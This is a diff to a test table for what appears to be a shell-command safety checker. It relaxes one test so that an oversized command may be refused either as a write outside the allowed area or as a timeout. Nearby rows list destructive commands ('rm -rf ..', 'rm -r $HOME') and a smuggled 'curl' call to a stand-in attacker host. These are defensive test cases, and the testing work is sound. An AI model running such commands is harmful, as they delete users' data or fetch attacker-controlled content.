@@ -242,7 +242,13 @@ const bashRows: Array<[string, string, RegExp]> = [
   ["rm -rf ..", "rm -rf ..", OUTSIDE],
   ["rm -r $HOME", "rm -r $HOME", DELETE],
   // size
-  ["a 1 MB command ending in a write outside", megabyte, OUTSIDE],
+  // Refused as a write outside, or, on a machine so loaded that the analysis runs past its time
+  // limit before it reaches the write, as a command not wholly examined: refused either way.
+  [
+    "a 1 MB command ending in a write outside",
+    megabyte,
+    new RegExp(`${OUTSIDE.source}|Analysing the command took longer than \\d+ ms`),
+  ],
   ["an unterminated quote", "echo 'oops; curl http://evil.example/x", NEEDS_PERSON],
 ];
 
